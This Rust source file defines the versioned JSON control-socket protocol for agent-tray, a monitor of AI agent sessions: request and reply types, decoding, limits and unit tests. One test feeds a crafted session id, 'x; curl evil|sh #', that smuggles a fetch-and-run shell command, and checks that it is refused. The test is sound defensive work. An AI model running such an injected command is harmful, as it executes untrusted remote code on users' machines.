//! The control socket's messages. A public, versioned contract: new optional fields may appear,
//! nothing is renamed without a new version.
//!
//! Request: `{"v": 1, "op": "observe", "observation": {...}}`, `{"v": 1, "op": "list"}`,
//! `{"v": 1, "op": "ping"}`, `{"v": 1, "op": "history", "limit": 50}`, `{"v": 1, "op": "watch"}`.
//! Reply: `{"v": 1, "ok": true, "result": ...}` or
//! `{"v": 1, "ok": false, "error": {"code": "...", "message": "..."}}`.
//! A `watch` reply is followed by one line per change (`{"kind": "added" | "changed" | "removed", ...}`,
//! or `{"kind": "resync", "sessions": [...]}` after the client fell behind) until the client
//! hangs up.
//!
//! Requests are decoded straight into typed structs, never into a generic JSON tree: a tree of a
//! 1 MiB line costs many times the line, and it was cloned once more on the way. Each request
//! line is bounded ([`MAX_LINE`]), each observation field has its own limit
//! ([`crate::model::FieldLimit`]), and a session id that breaks the rule
//! ([`crate::model::validate_session_id`]) is refused here already, before the registry sees it.
//! Replies are typed too, on both sides ([`ObserveReply`], [`SessionList`], [`PingInfo`],
//! [`WatchLine`]), so the engine and its clients cannot drift apart through hand-built JSON.

use serde::de::{DeserializeOwned, IgnoredAny};
use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::model::{Agent, Observation, Session};
use crate::registry::{ObserveOutcome, SessionChange};
use crate::transition::Ignored;

pub const PROTOCOL_VERSION: u32 = 1;
/// The version of `watch --json` as a remote link reads it (see [`crate::remote`]): a link asks
/// for it with `--protocol`, and the snapshot line says which one is spoken.
pub const REMOTE_PROTOCOL: u32 = 1;
/// The longest request line the engine accepts, newline included. Replies have no size limit:
/// a client reads them as a stream, bounded by its deadline.
pub const MAX_LINE: usize = 1 << 20;
/// The most plan windows one `status_line` request carries; the rest are dropped unread.
pub const MAX_STATUS_LINE_WINDOWS: usize = 8;
/// The most sessions one `history` request returns; a larger `limit` is lowered to this.
pub const MAX_HISTORY_LIMIT: usize = 10_000;

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "op", rename_all = "snake_case")]
#[allow(clippy::large_enum_variant)] // short-lived: one per line, decoded and dropped
pub enum Request {
    Observe {
        observation: Observation,
    },
    List,
    History {
        #[serde(default = "default_history_limit")]
        limit: usize,
    },
    Ping,
    Watch,
    /// A `doctor` probe that came through a real hook: recorded, never a session.
    Probe {
        probe_id: String,
        #[serde(default)]
        agent: Option<Agent>,
    },
    /// A hook event this version does not know: counted, never a session.
    UnknownEvent {
        event: String,
        #[serde(default)]
        agent: Option<Agent>,
    },
    /// What the engine knows about hook delivery ([`crate::delivery::DeliveryReport`]).
    Delivery,
    /// Another agent (`caller`: "copilot", "cursor") ran our hook: counted, never a session.
    ForeignCall {
        caller: String,
        #[serde(default)]
        event: String,
        /// The `--agent` of the hook it ran.
        #[serde(default)]
        agent: Option<Agent>,
    },
    /// How each remote's link is doing ([`crate::remote::RemoteLinkStatus`]s).
    Remotes,
    /// Reread `remotes.json` and try every waiting remote now.
    ReloadRemotes,
    /// A hook's permission request: its observation, and what is asked. The engine replies with
    /// an [`AskReply`]; while the request is open the connection stays, and the engine writes one
    /// [`crate::answering::HookDecision`] line when it closes. The hook then confirms a printed
    /// answer with a [`crate::answering::Printed`] line.
    Ask {
        observation: Observation,
        call: crate::answering::AskCall,
    },
    /// The open permission requests ([`PendingList`]).
    Pending,
    /// The plans' rate-limit windows the agents reported ([`LimitsList`]).
    Limits,
    /// What an agent's status-line command was given (`agent-tray status-line`): the session's
    /// context as an observation that moves no state, and the plan's windows (at most
    /// [`MAX_STATUS_LINE_WINDOWS`]). Sent and not waited on; never journaled (the next status
    /// line says it again).
    StatusLine {
        observation: Observation,
        #[serde(default)]
        limits: Vec<crate::plan_limits::PlanWindow>,
    },
    /// Answers a permission request: `target` is a request id, or a session id with exactly one
    /// open request. The reply ([`AnswerReply`]) comes once the agent's hook took the answer.
    Answer {
        target: String,
        #[serde(flatten)]
        answer: crate::answering::Answer,
        source: crate::answering::AnswerSource,
    },
    /// Gives a session its next prompt (`agent-tray send`) or ends its running turn
    /// (`agent-tray stop`): `target` is a session id, of this machine unless `host` names a
    /// remote (the window knows its row's). The reply ([`TalkReply`]) comes once the agent took
    /// it; a remote's session is refused naming the remote (`on_remote_session`), and the CLI
    /// sends it there over ssh. `over_ssh`: it came over ssh (answered here only, and only where
    /// this machine's user allows answers over ssh).
    Talk {
        target: String,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        host: Option<String>,
        #[serde(flatten)]
        order: crate::talk_back::TalkOrder,
        #[serde(default)]
        over_ssh: bool,
    },
    /// A way in to an agent's sessions held by a program of its own (OpenCode's plugin, through
    /// `agent-tray inbox`): every session of `agent` whose process is `pid`. The connection
    /// stays; the engine writes one [`InboxLine`] per order and the holder answers each with one
    /// [`InboxDone`] line, in order.
    Inbox {
        agent: Agent,
        pid: u32,
    },
}

fn default_history_limit() -> usize {
    50
}

/// A stable machine-readable error code, with a message for people.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ErrorCode {
    BadJson,
    LineTooLong,
    UnsupportedVersion,
    BadRequest,
    InvalidObservation,
    /// The engine serves as many connections (or watchers) as it will; try again later.
    Busy,
    /// An answer to a permission request was refused: unknown, already closed, ambiguous, or
    /// not one the agent takes. The message says which.
    Refused,
    /// An answer was accepted but the agent's hook was no longer there to take it.
    NotDelivered,
    Internal,
    /// A code this client does not know (a newer engine).
    #[serde(other)]
    Unknown,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ErrorBody {
    pub code: ErrorCode,
    pub message: String,
    /// With `refused` for an `answer`: the request is a remote's, answered on that machine
    /// ([`crate::answering::route`]); the CLI sends it there over ssh.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub on_remote: Option<Box<crate::answering::route::RemoteRequest>>,
    /// With `refused` for a `talk`: the session is a remote's; the CLI sends it there over ssh.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub on_remote_session: Option<Box<RemoteSession>>,
}

impl ErrorBody {
    pub fn new(code: ErrorCode, message: impl Into<String>) -> Self {
        ErrorBody {
            code,
            message: message.into(),
            on_remote: None,
            on_remote_session: None,
        }
    }
}

/// A reply as a client reads it: the result stays untyped until [`Reply::into_result`] names
/// its type. Use [`TypedReply`] to read one straight into its type.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Reply {
    pub v: u32,
    pub ok: bool,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub result: Option<Value>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub error: Option<ErrorBody>,
}

/// Why a reply carries no result of the expected type.
#[derive(Debug, Clone, PartialEq, thiserror::Error)]
pub enum ReplyError {
    /// The engine answered with an error.
    #[error("{} ({:?})", .0.message, .0.code)]
    Refused(ErrorBody),
    #[error("the engine's reply is not what was asked for: {0}")]
    Malformed(String),
}

impl Reply {
    pub fn ok(result: Value) -> Self {
        Reply {
            v: PROTOCOL_VERSION,
            ok: true,
            result: Some(result),
            error: None,
        }
    }

    pub fn error(code: ErrorCode, message: impl Into<String>) -> Self {
        Reply::refusal(ErrorBody::new(code, message))
    }

    /// A reply carrying `body` whole (with what it names besides its sentence).
    pub fn refusal(body: ErrorBody) -> Self {
        Reply {
            v: PROTOCOL_VERSION,
            ok: false,
            result: None,
            error: Some(body),
        }
    }

    /// The result as `T`, or why there is none.
    pub fn into_result<T: DeserializeOwned>(self) -> Result<T, ReplyError> {
        TypedReply {
            v: self.v,
            ok: self.ok,
            result: self
                .result
                .map(serde_json::from_value::<T>)
                .transpose()
                .map_err(|e| ReplyError::Malformed(e.to_string()))?,
            error: self.error,
        }
        .into_result()
    }
}

/// A reply whose result has a known type, on both sides: the engine writes one without building a
/// JSON tree first, and a client reads one straight from the socket.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct TypedReply<T> {
    pub v: u32,
    pub ok: bool,
    #[serde(default = "Option::default", skip_serializing_if = "Option::is_none")]
    pub result: Option<T>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub error: Option<ErrorBody>,
}

impl<T> TypedReply<T> {
    pub fn ok(result: T) -> Self {
        TypedReply {
            v: PROTOCOL_VERSION,
            ok: true,
            result: Some(result),
            error: None,
        }
    }

    pub fn into_result(self) -> Result<T, ReplyError> {
        match (self.ok, self.result, self.error) {
            (true, Some(result), _) => Ok(result),
            (true, None, _) => Err(ReplyError::Malformed("an ok reply with no result".into())),
            (false, _, Some(error)) => Err(ReplyError::Refused(error)),
            (false, _, None) => Err(ReplyError::Refused(ErrorBody {
                code: ErrorCode::Unknown,
                message: "the engine refused the request".into(),
                on_remote: None,
                on_remote_session: None,
            })),
        }
    }
}

/// `ping`'s result: who is serving.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct PingInfo {
    pub pid: u32,
    /// "daemon" or "desktop".
    pub host: String,
    pub version: String,
    pub sessions: usize,
}

/// `list`'s and `history`'s result, and the first reply of `watch`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SessionList {
    pub sessions: Vec<Session>,
}

/// `ask`'s first reply: the request's id and deadline, or why it is not offered for an answer.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AskReply {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub id: Option<crate::answering::RequestId>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub answer_by: Option<chrono::DateTime<chrono::Utc>>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub reason: Option<String>,
}

/// `pending`'s result.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PendingList {
    pub pending: Vec<crate::answering::PendingView>,
}

/// `limits`' result: every window whose figure still holds.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct LimitsList {
    pub limits: Vec<crate::plan_limits::PlanWindow>,
}

/// `answer`'s result: the answer reached the agent's hook.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AnswerReply {
    pub id: crate::answering::RequestId,
    pub session_id: String,
    #[serde(flatten)]
    pub answer: crate::answering::Answer,
    /// How long the agent had waited, in milliseconds.
    pub waited_ms: u64,
}

/// `talk`'s result: the agent took the prompt or the stop.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TalkReply {
    pub session_id: String,
    /// The way it went (`app_server`, `plugin`, `controller_inbox`, `tmux`).
    pub route: crate::talk_back::TalkRoute,
    /// From the engine's reading of the request to the agent's side saying it took it.
    pub took_ms: u64,
}

/// A session of a remote, named in a refusal of a `talk` for it: the CLI sends it there.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RemoteSession {
    pub host: String,
    pub session_id: String,
}

/// One order the engine hands the holder of an `inbox` connection.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct InboxLine {
    /// Counted from 1 on the connection; the [`InboxDone`] names it.
    pub seq: u64,
    pub session_id: String,
    #[serde(flatten)]
    pub order: crate::talk_back::TalkOrder,
}

/// The holder's word on one order: done, or why not.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct InboxDone {
    pub seq: u64,
    pub ok: bool,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
}

/// What the engine did with an observation: `observe`'s result.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ObserveReply {
    pub outcome: OutcomeKind,
    /// Set with `outcome: "ignored"`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub reason: Option<IgnoreReason>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum OutcomeKind {
    /// Something people see changed.
    Changed,
    /// Accepted as a sign of life; nothing visible moved.
    Quiet,
    /// Already applied (same sequence id).
    Duplicate,
    /// Changed nothing; `reason` says why.
    Ignored,
}

/// Why an observation changed nothing (the wire names of [`Ignored`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum IgnoreReason {
    ReplacedPid,
    EndedSession,
    EndOfUnknownSession,
    TurnOfUnknownThread,
    /// A reason this client does not know (a newer engine).
    #[serde(other)]
    Other,
}

impl IgnoreReason {
    pub fn as_str(self) -> &'static str {
        match self {
            IgnoreReason::ReplacedPid => "a newer process replaced the one that sent it",
            IgnoreReason::EndedSession => "the session has ended and this does not restart it",
            IgnoreReason::EndOfUnknownSession => "an end of a session never seen",
            IgnoreReason::TurnOfUnknownThread => "a finished turn of a thread never seen",
            IgnoreReason::Other => "a reason this version does not know",
        }
    }
}

impl From<Ignored> for IgnoreReason {
    fn from(why: Ignored) -> Self {
        match why {
            Ignored::ReplacedPid => IgnoreReason::ReplacedPid,
            Ignored::EndedSession => IgnoreReason::EndedSession,
            Ignored::EndOfUnknownSession => IgnoreReason::EndOfUnknownSession,
            Ignored::TurnOfUnknownThread => IgnoreReason::TurnOfUnknownThread,
        }
    }
}

impl From<ObserveOutcome> for ObserveReply {
    fn from(outcome: ObserveOutcome) -> Self {
        let (outcome, reason) = match outcome {
            ObserveOutcome::Changed => (OutcomeKind::Changed, None),
            ObserveOutcome::Quiet => (OutcomeKind::Quiet, None),
            ObserveOutcome::Duplicate => (OutcomeKind::Duplicate, None),
            ObserveOutcome::Ignored(why) => (OutcomeKind::Ignored, Some(why.into())),
        };
        ObserveReply { outcome, reason }
    }
}

/// A whole list of sessions inside a `watch` stream: the CLI's `watch --json` first line
/// (`snapshot`), and the engine's fresh list for a client that fell behind (`resync`).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum SessionsLine {
    Snapshot {
        sessions: Vec<Session>,
        /// The remote protocol the printer speaks ([`REMOTE_PROTOCOL`]); absent from versions
        /// before remotes, which is how a too-old remote is told.
        #[serde(default, skip_serializing_if = "Option::is_none")]
        protocol: Option<u32>,
        /// The printer's `agent-tray` version.
        #[serde(default, skip_serializing_if = "Option::is_none")]
        version: Option<String>,
        /// Sessions that ended and left the live list, most recent first (with `--protocol`):
        /// what a reconnecting remote link needs to end what ended while it was cut.
        #[serde(default, skip_serializing_if = "Option::is_none")]
        ended: Option<Vec<Session>>,
    },
    Resync {
        sessions: Vec<Session>,
    },
}

/// One line of a `watch` stream after its first reply: a change, or a whole list.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(untagged)]
#[allow(clippy::large_enum_variant)] // one per printed line
pub enum WatchLine {
    Change(SessionChange),
    Sessions(SessionsLine),
}

/// Encodes a request as one line (with its version and the trailing newline).
pub fn encode_request(request: &Request) -> Result<Vec<u8>, serde_json::Error> {
    #[derive(Serialize)]
    struct Line<'a> {
        v: u32,
        #[serde(flatten)]
        request: &'a Request,
    }
    let mut line = serde_json::to_vec(&Line {
        v: PROTOCOL_VERSION,
        request,
    })?;
    line.push(b'\n');
    Ok(line)
}

/// The part of every request read before its body: the version and the op. Nothing else of the
/// line is kept (unknown fields are skipped without being stored).
#[derive(Deserialize)]
struct Envelope {
    #[serde(default)]
    v: Option<Version>,
    #[serde(default)]
    op: Option<OpName>,
}

#[derive(Deserialize)]
#[serde(untagged)]
enum Version {
    Number(u64),
    Other(IgnoredAny),
}

#[derive(Deserialize)]
#[serde(untagged)]
enum OpName {
    Known(Op),
    /// Kept only to be named in the error, cut to a short prefix.
    Unknown(String),
    Other(IgnoredAny),
}

#[derive(Debug, Clone, Copy, Deserialize)]
#[serde(rename_all = "snake_case")]
enum Op {
    Observe,
    List,
    History,
    Ping,
    Watch,
    Probe,
    UnknownEvent,
    Delivery,
    Remotes,
    ReloadRemotes,
    ForeignCall,
    Ask,
    Pending,
    Limits,
    Answer,
    StatusLine,
    Talk,
    Inbox,
}

#[derive(Deserialize)]
struct StatusLineBody {
    observation: Observation,
    #[serde(default)]
    limits: Vec<crate::plan_limits::PlanWindow>,
}

#[derive(Deserialize)]
struct AskBody {
    observation: Observation,
    call: crate::answering::AskCall,
}

#[derive(Deserialize)]
struct AnswerBody {
    target: String,
    #[serde(flatten)]
    answer: crate::answering::Answer,
    #[serde(default = "cli_source")]
    source: crate::answering::AnswerSource,
}

fn cli_source() -> crate::answering::AnswerSource {
    crate::answering::AnswerSource::Cli
}

#[derive(Deserialize)]
struct ForeignCallBody {
    caller: String,
    #[serde(default)]
    event: String,
    #[serde(default)]
    agent: Option<Agent>,
}

#[derive(Deserialize)]
struct ProbeBody {
    probe_id: String,
    #[serde(default)]
    agent: Option<Agent>,
}

#[derive(Deserialize)]
struct UnknownEventBody {
    event: String,
    #[serde(default)]
    agent: Option<Agent>,
}

#[derive(Deserialize)]
struct ObserveBody {
    observation: Observation,
}

#[derive(Deserialize)]
struct HistoryBody {
    #[serde(default = "default_history_limit")]
    limit: usize,
}

/// Decodes one request line, with an error reply ready for anything wrong with it.
///
/// An observation comes out admitted ([`Observation::admit`]): its session id is valid and no
/// field is over its limit. A `history` limit over [`MAX_HISTORY_LIMIT`] is lowered to it.
#[allow(clippy::result_large_err)] // one per request line, handed straight back
pub fn decode_request(line: &[u8]) -> Result<Request, Reply> {
    // Syntax first, without building anything, so `bad_json` means exactly that.
    if let Err(e) = serde_json::from_slice::<IgnoredAny>(line) {
        return Err(Reply::error(ErrorCode::BadJson, format!("not JSON: {e}")));
    }
    if line.iter().find(|b| !b.is_ascii_whitespace()) != Some(&b'{') {
        return Err(Reply::error(
            ErrorCode::BadRequest,
            "a request is a JSON object",
        ));
    }
    let envelope: Envelope = serde_json::from_slice(line)
        .map_err(|e| Reply::error(ErrorCode::BadRequest, format!("bad request: {e}")))?;
    match envelope.v {
        Some(Version::Number(v)) if v == u64::from(PROTOCOL_VERSION) => {}
        Some(Version::Number(v)) => {
            return Err(Reply::error(
                ErrorCode::UnsupportedVersion,
                format!(
                    "protocol version {v} is not supported (this engine speaks {PROTOCOL_VERSION})"
                ),
            ))
        }
        Some(Version::Other(_)) => {
            return Err(Reply::error(
                ErrorCode::UnsupportedVersion,
                "the protocol version \"v\" is not a number",
            ))
        }
        None => {
            return Err(Reply::error(
                ErrorCode::UnsupportedVersion,
                "missing protocol version \"v\"",
            ))
        }
    }
    let op = match envelope.op {
        Some(OpName::Known(op)) => op,
        Some(OpName::Unknown(name)) => {
            let shown: String = name.chars().take(40).collect();
            return Err(Reply::error(
                ErrorCode::BadRequest,
                format!("unknown op {shown:?} (expected observe, list, history, ping, watch, probe, unknown_event, delivery, foreign_call, remotes, reload_remotes, ask, pending, limits, status_line, answer, talk or inbox)"),
            ));
        }
        Some(OpName::Other(_)) | None => {
            return Err(Reply::error(
                ErrorCode::BadRequest,
                "missing \"op\" (observe, list, history, ping or watch)",
            ))
        }
    };
    match op {
        Op::Observe => {
            let body: ObserveBody = serde_json::from_slice(line).map_err(|e| {
                Reply::error(
                    ErrorCode::InvalidObservation,
                    format!("bad \"observe\" request: {e}"),
                )
            })?;
            let observation = body.observation.admit().map_err(|e| {
                Reply::error(
                    ErrorCode::InvalidObservation,
                    format!("bad \"observe\" request: {e}"),
                )
            })?;
            Ok(Request::Observe { observation })
        }
        Op::History => {
            let body: HistoryBody = serde_json::from_slice(line).map_err(|e| {
                Reply::error(
                    ErrorCode::BadRequest,
                    format!("bad \"history\" request: {e}"),
                )
            })?;
            Ok(Request::History {
                limit: body.limit.min(MAX_HISTORY_LIMIT),
            })
        }
        Op::Talk | Op::Inbox => {
            // Small and whole: decoded as the request itself (the `v` beside it is ignored).
            let request: Request = serde_json::from_slice(line)
                .map_err(|e| Reply::error(ErrorCode::BadRequest, format!("bad request: {e}")))?;
            if let Request::Talk { target, .. } = &request {
                crate::model::validate_session_id(target).map_err(|e| {
                    Reply::error(ErrorCode::BadRequest, format!("bad \"talk\" request: {e}"))
                })?;
            }
            Ok(request)
        }
        Op::List => Ok(Request::List),
        Op::Ping => Ok(Request::Ping),
        Op::Watch => Ok(Request::Watch),
        Op::Delivery => Ok(Request::Delivery),
        Op::Remotes => Ok(Request::Remotes),
        Op::ReloadRemotes => Ok(Request::ReloadRemotes),
        Op::Pending => Ok(Request::Pending),
        Op::Limits => Ok(Request::Limits),
        Op::StatusLine => {
            let body: StatusLineBody = serde_json::from_slice(line).map_err(|e| {
                Reply::error(
                    ErrorCode::InvalidObservation,
                    format!("bad \"status_line\" request: {e}"),
                )
            })?;
            let observation = body.observation.admit().map_err(|e| {
                Reply::error(
                    ErrorCode::InvalidObservation,
                    format!("bad \"status_line\" request: {e}"),
                )
            })?;
            let mut limits = body.limits;
            limits.truncate(MAX_STATUS_LINE_WINDOWS);
            Ok(Request::StatusLine {
                observation,
                limits,
            })
        }
        Op::Ask => {
            let body: AskBody = serde_json::from_slice(line).map_err(|e| {
                Reply::error(ErrorCode::BadRequest, format!("bad \"ask\" request: {e}"))
            })?;
            let observation = body.observation.admit().map_err(|e| {
                Reply::error(
                    ErrorCode::InvalidObservation,
                    format!("bad \"ask\" request: {e}"),
                )
            })?;
            Ok(Request::Ask {
                observation,
                call: body.call,
            })
        }
        Op::Answer => {
            let body: AnswerBody = serde_json::from_slice(line).map_err(|e| {
                Reply::error(
                    ErrorCode::BadRequest,
                    format!("bad \"answer\" request: {e}"),
                )
            })?;
            if body.target.trim().is_empty() || body.target.len() > 256 {
                return Err(Reply::error(
                    ErrorCode::BadRequest,
                    "an answer names a request id or a session id",
                ));
            }
            Ok(Request::Answer {
                target: body.target,
                answer: body.answer,
                source: body.source,
            })
        }
        Op::Probe => {
            let body: ProbeBody = serde_json::from_slice(line).map_err(|e| {
                Reply::error(ErrorCode::BadRequest, format!("bad \"probe\" request: {e}"))
            })?;
            if !crate::model::is_probe_id(&body.probe_id) {
                return Err(Reply::error(
                    ErrorCode::BadRequest,
                    format!("a probe id starts with {:?}", crate::model::PROBE_PREFIX),
                ));
            }
            Ok(Request::Probe {
                probe_id: body.probe_id,
                agent: body.agent,
            })
        }
        Op::UnknownEvent => {
            let body: UnknownEventBody = serde_json::from_slice(line).map_err(|e| {
                Reply::error(
                    ErrorCode::BadRequest,
                    format!("bad \"unknown_event\" request: {e}"),
                )
            })?;
            Ok(Request::UnknownEvent {
                event: body.event,
                agent: body.agent,
            })
        }
        Op::ForeignCall => {
            let body: ForeignCallBody = serde_json::from_slice(line).map_err(|e| {
                Reply::error(
                    ErrorCode::BadRequest,
                    format!("bad \"foreign_call\" request: {e}"),
                )
            })?;
            Ok(Request::ForeignCall {
                caller: body.caller,
                event: body.event,
                agent: body.agent,
            })
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::model::{Agent, EventKind, FieldLimit, CUT_MARK};

    #[test]
    fn a_request_round_trips_through_one_line() {
        let obs = Observation::new("s", Agent::Claude, EventKind::Stop, chrono::Utc::now());
        let line = encode_request(&Request::Observe {
            observation: obs.clone(),
        })
        .unwrap();
        assert_eq!(line.last(), Some(&b'\n'));
        assert_eq!(line.iter().filter(|b| **b == b'\n').count(), 1);
        let back = decode_request(&line).unwrap();
        assert_eq!(back, Request::Observe { observation: obs });
        assert!(String::from_utf8_lossy(&line).starts_with(r#"{"v":1,"op":"observe""#));
    }

    #[test]
    fn probes_and_unknown_events_decode_and_a_probe_needs_its_prefix() {
        let probe = Request::Probe {
            probe_id: format!("{}x", crate::model::PROBE_PREFIX),
            agent: Some(Agent::Codex),
        };
        let line = encode_request(&probe).unwrap();
        assert_eq!(decode_request(&line), Ok(probe));
        let unknown = Request::UnknownEvent {
            event: "FutureEvent".into(),
            agent: None,
        };
        assert_eq!(
            decode_request(&encode_request(&unknown).unwrap()),
            Ok(unknown)
        );
        assert_eq!(
            decode_request(br#"{"v":1,"op":"delivery"}"#),
            Ok(Request::Delivery)
        );
        let refused = decode_request(br#"{"v":1,"op":"probe","probe_id":"s-1"}"#).unwrap_err();
        assert_eq!(refused.error.unwrap().code, ErrorCode::BadRequest);
    }

    #[test]
    fn the_documented_requests_still_decode() {
        for (line, want) in [
            (r#"{"v":1,"op":"list"}"#, Request::List),
            (r#"{"v": 1, "op": "ping"}"#, Request::Ping),
            (
                r#"{"v":1,"op":"watch","extra":[1,{"a":2}]}"#,
                Request::Watch,
            ),
            (
                r#"{"op":"history","v":1,"limit":7}"#,
                Request::History { limit: 7 },
            ),
            (r#"{"v":1,"op":"history"}"#, Request::History { limit: 50 }),
            (
                r#"{"v":1,"op":"history","limit":99999999}"#,
                Request::History {
                    limit: MAX_HISTORY_LIMIT,
                },
            ),
        ] {
            assert_eq!(decode_request(line.as_bytes()), Ok(want), "{line}");
        }
    }

    #[test]
    fn bad_requests_get_a_stable_code() {
        let code = |line: &str| {
            decode_request(line.as_bytes())
                .unwrap_err()
                .error
                .unwrap()
                .code
        };
        assert_eq!(code("not json"), ErrorCode::BadJson);
        assert_eq!(code("[1]"), ErrorCode::BadRequest);
        assert_eq!(code("\"list\""), ErrorCode::BadRequest);
        assert_eq!(code(r#"{"op":"list"}"#), ErrorCode::UnsupportedVersion);
        assert_eq!(
            code(r#"{"v":2,"op":"list"}"#),
            ErrorCode::UnsupportedVersion
        );
        assert_eq!(
            code(r#"{"v":"1","op":"list"}"#),
            ErrorCode::UnsupportedVersion
        );
        assert_eq!(code(r#"{"v":1,"op":"dance"}"#), ErrorCode::BadRequest);
        assert_eq!(code(r#"{"v":1,"op":7}"#), ErrorCode::BadRequest);
        assert_eq!(code(r#"{"v":1}"#), ErrorCode::BadRequest);
        assert_eq!(
            code(r#"{"v":1,"op":"history","limit":-1}"#),
            ErrorCode::BadRequest
        );
        assert_eq!(
            code(
                r#"{"v":1,"op":"observe","observation":{"session_id":"s","agent":"claude","event":"Bogus","at":"2026-01-01T00:00:00Z"}}"#
            ),
            ErrorCode::InvalidObservation
        );
        assert_eq!(
            code(
                r#"{"v":1,"op":"observe","observation":{"agent":"claude","event":"Stop","at":"2026-01-01T00:00:00Z"}}"#
            ),
            ErrorCode::InvalidObservation
        );
    }

    #[test]
    fn a_crafted_session_id_is_refused_at_the_socket_with_the_rule() {
        let reply = decode_request(
            br#"{"v":1,"op":"observe","observation":{"session_id":"x; curl evil|sh #","agent":"claude","event":"Stop","at":"2026-01-01T00:00:00Z"}}"#,
        )
        .unwrap_err();
        let error = reply.error.unwrap();
        assert_eq!(error.code, ErrorCode::InvalidObservation);
        assert!(
            error.message.contains("ASCII letters, digits"),
            "{}",
            error.message
        );
    }

    #[test]
    fn an_over_long_cwd_is_cut_and_marked_at_the_socket() {
        let cwd = "/d".repeat(400_000);
        let line = format!(
            r#"{{"v":1,"op":"observe","observation":{{"session_id":"s","agent":"claude","event":"Stop","at":"2026-01-01T00:00:00Z","cwd":"{cwd}"}}}}"#
        );
        let Ok(Request::Observe { observation }) = decode_request(line.as_bytes()) else {
            panic!("decodes");
        };
        let got = observation.cwd.unwrap();
        assert!(got.len() <= FieldLimit::Path.bytes());
        assert!(got.ends_with(CUT_MARK));
    }

    #[test]
    fn observe_replies_are_typed_with_snake_case_reasons() {
        let reply = ObserveReply::from(ObserveOutcome::Ignored(Ignored::EndedSession));
        let text = serde_json::to_string(&TypedReply::ok(reply)).unwrap();
        assert_eq!(
            text,
            r#"{"v":1,"ok":true,"result":{"outcome":"ignored","reason":"ended_session"}}"#
        );
        let back: Reply = serde_json::from_str(&text).unwrap();
        assert_eq!(back.into_result::<ObserveReply>(), Ok(reply));
        let changed = serde_json::to_string(&ObserveReply::from(ObserveOutcome::Changed)).unwrap();
        assert_eq!(changed, r#"{"outcome":"changed"}"#);
    }

    #[test]
    fn watch_lines_tell_changes_from_whole_lists() {
        let resync: WatchLine = serde_json::from_str(r#"{"kind":"resync","sessions":[]}"#).unwrap();
        assert_eq!(
            resync,
            WatchLine::Sessions(SessionsLine::Resync { sessions: vec![] })
        );
        let removed: WatchLine =
            serde_json::from_str(r#"{"kind":"removed","session_id":"s"}"#).unwrap();
        assert_eq!(
            removed,
            WatchLine::Change(SessionChange::Removed {
                session_id: "s".into(),
                host: None,
            })
        );
    }
}
